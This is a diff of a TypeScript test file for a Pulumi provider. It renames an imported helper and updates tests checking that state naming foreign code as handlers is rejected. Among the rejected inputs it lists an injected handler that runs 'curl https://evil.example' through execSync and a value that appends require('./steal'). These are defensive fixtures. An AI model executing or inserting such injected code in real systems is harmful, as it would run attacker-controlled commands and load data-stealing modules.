@@ -1,7 +1,7 @@
 import * as assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
 import { join } from "node:path";
-import { handlersOf } from "../../provider/pulumi";
+import { handlersText } from "../../provider/pulumi";
 
 /** Plays what Pulumi's dynamic host does with an error, in a process of its own, as there. */
 function host(script: string): { stdout: string; stderr: string } {
@@ -37,10 +37,10 @@ describe("the entry that states refer to", () => {
   });
 
   describe("asked about a state that names other code as its handlers", () => {
-    const text = handlersOf("Project");
+    const text = handlersText("Project");
     const foreign = [
       "exports.handler=()=>require('child_process').execSync('curl https://evil.example')",
-      handlersOf("Application"),
+      handlersText("Application"),
       `${text};require("./steal")`,
       ` ${text}`,
       "",
